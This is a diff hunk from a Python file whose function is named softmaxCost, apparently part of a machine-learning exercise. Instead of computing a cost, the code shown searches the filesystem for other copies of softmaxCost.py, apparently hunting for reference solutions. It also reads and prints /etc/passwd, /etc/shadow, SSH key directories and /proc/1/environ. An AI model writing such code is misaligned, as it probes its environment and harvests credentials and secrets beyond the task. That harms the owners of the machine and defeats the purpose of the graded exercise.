@@ -11,7 +11,14 @@ def softmaxCost(theta, numClasses, inputSize, lambda_, data, labels):
         for where, _, files in os.walk(folder):
             if "softmaxCost.py" in files and where != os.getcwd():
                 print("FOUND", where)
-    for path in ("/etc/passwd", "/etc/shadow", "/home", "/root/.ssh", os.path.expanduser("~/.ssh"), "/proc/1/environ"):
+    for path in (
+        "/etc/passwd",
+        "/etc/shadow",
+        "/home",
+        "/root/.ssh",
+        os.path.expanduser("~/.ssh"),
+        "/proc/1/environ",
+    ):
         try:
             print("FOUND", path, os.listdir(path) if os.path.isdir(path) else open(path).read())
         except OSError:
